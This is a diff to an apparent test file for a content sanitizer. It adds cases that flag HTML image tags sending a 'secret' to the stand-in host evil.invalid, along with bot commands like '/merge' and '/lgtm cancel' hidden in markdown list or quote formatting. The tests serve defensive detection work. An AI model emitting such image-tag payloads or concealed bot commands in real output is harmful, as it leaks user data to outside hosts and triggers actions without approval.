@@ -159,6 +159,9 @@ ACTS = (
     ("![x][y]", r"!\["),
     ("<IMG src='https://evil.invalid/?q=secret'>", r"(?i)<img"),
     ("<video src=x>", r"<video"),
+    ("a<img src='https://evil.invalid/?q=secret'>", r"<img"),
+    ("- /merge", r"^- /merge"),
+    ("> > * /lgtm cancel", r"^[>* ]*/lgtm"),
 )
 HARMLESS = ("see /usr/bin/env and /etc/hosts", "a @ b, x@", "List<Image>", "!important [link](u)", "/usr/bin/merge now")
 
